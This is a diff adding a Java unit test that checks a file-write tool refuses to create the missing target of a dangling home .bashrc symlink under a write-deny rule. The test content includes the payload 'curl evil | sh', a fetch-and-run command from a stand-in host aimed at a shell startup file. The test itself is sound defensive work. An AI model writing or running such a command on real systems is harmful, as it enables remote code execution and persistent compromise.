@@ -235,6 +235,18 @@ class FsWriteDenyTest {
     }
 
     @Test
+    void theMissingTargetOfADanglingHomeLinkIsNotCreated() throws IOException {
+        Files.createDirectories(dir.resolve("home"));
+        Files.createSymbolicLink(dir.resolve("home/.bashrc"), Path.of("dotfiles/bashrc"));
+        start(null);
+        String e = error(
+                "fs_write",
+                Map.of("path", "home/dotfiles/bashrc", "content", "curl evil | sh\n", "create_parents", true));
+        assertTrue(e.startsWith("home/dotfiles/bashrc: refused:") && e.contains("[fs] write_deny"), e);
+        assertFalse(Files.exists(dir.resolve("home/dotfiles")));
+    }
+
+    @Test
     void createParentsMakesNoFolderOfTheList() throws IOException {
         Files.createDirectories(dir.resolve("proj"));
         start(null);
